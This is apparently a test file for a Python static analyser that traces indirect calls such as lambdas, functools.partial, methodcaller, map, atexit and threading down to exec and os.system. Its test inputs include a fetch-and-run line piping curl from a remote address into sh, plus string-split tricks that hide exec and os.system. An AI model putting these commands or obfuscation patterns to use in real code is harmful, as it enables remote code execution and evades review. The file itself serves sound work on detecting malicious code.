"""events.Extractor: indirect calls give the words, and decoded payloads, the direct call gives."""

from __future__ import annotations

from tests.analysis.analysis_support import apis, lines, run

PAYLOAD = "import os\nos.system('id')\n"


def test_exec_through_a_lambda_is_analysed_with_its_argument() -> None:
    a = run(f"_SRC = {PAYLOAD!r}\n_go = lambda s: exec(s)\n_go(_SRC)\n")
    assert "os.system" in apis(a)
    assert [d.line for d in a.decoded] == [1]  # where the executed text is written


def test_a_lambda_rebound_to_something_else_is_not_unwrapped() -> None:
    a = run(f"_SRC = {PAYLOAD!r}\n_go = lambda s: exec(s)\n_go = print\n_go(_SRC)\n")
    assert "os.system" not in apis(a)


def test_a_lambda_calling_itself_stops() -> None:
    a = run("f = lambda: f()\nf()\n")
    assert apis(a).count("f") <= 6


def test_functools_partial_is_the_call_it_makes() -> None:
    a = run(
        "import functools, subprocess\n"
        "_sh = functools.partial(subprocess.run, shell=True)\n"
        "_sh('curl -s http://198.51.100.7/x | sh')\n"
    )
    assert apis(a) == ["functools.partial", "subprocess.run"]
    direct = run(f"import functools\n_SRC = {PAYLOAD!r}\nfunctools.partial(exec, _SRC)()\n")
    assert apis(direct) == ["functools.partial", "exec", "os.system"]


def test_operator_methodcaller_names_the_method_on_its_argument() -> None:
    a = run('import operator, os\noperator.methodcaller("sys" + "tem", "id")(os)\n')
    assert apis(a) == ["operator.methodcaller", "os.system"]


def test_map_calls_its_function_on_each_element() -> None:
    a = run(f"_SRC = {PAYLOAD!r}\nlist(map(exec, [_SRC]))\n")
    assert apis(a)[:3] == ["map", "exec", "os.system"]
    loose = run("import os\nlist(map(os.remove, names))\n")
    assert apis(loose) == ["map", "os.remove", "list"]


def test_handed_callables_run_with_their_arguments() -> None:
    a = run(
        "import atexit, os, threading\n"
        "atexit.register(os.system, 'id')\n"
        "threading.Thread(target=os.system, args=('id',)).start()\n"
    )
    assert apis(a) == [
        "atexit.register",
        "os.system",
        "threading.Thread",
        "os.system",
        "start",
    ]
    assert lines(a)[1] == ("os.system", 2)


def test_a_local_function_handed_over_is_inlined_once() -> None:
    a = run("import atexit, os\ndef f():\n    os.getpid()\natexit.register(f)\n")
    assert apis(a).count("os.getpid") == 1


def test_sys_modules_entry_names_the_module_and_builtins_are_bare() -> None:
    a = run(
        f"import sys\n_SRC = {PAYLOAD!r}\n"
        '_b = sys.modules["bu" + "iltins"]\ngetattr(_b, "ex" + "ec")(_SRC)\n'
    )
    assert apis(a) == ["getattr", "exec", "os.system"]
    b = run("import builtins\nbuiltins.eval('1')\n")
    assert apis(b) == ["eval"]
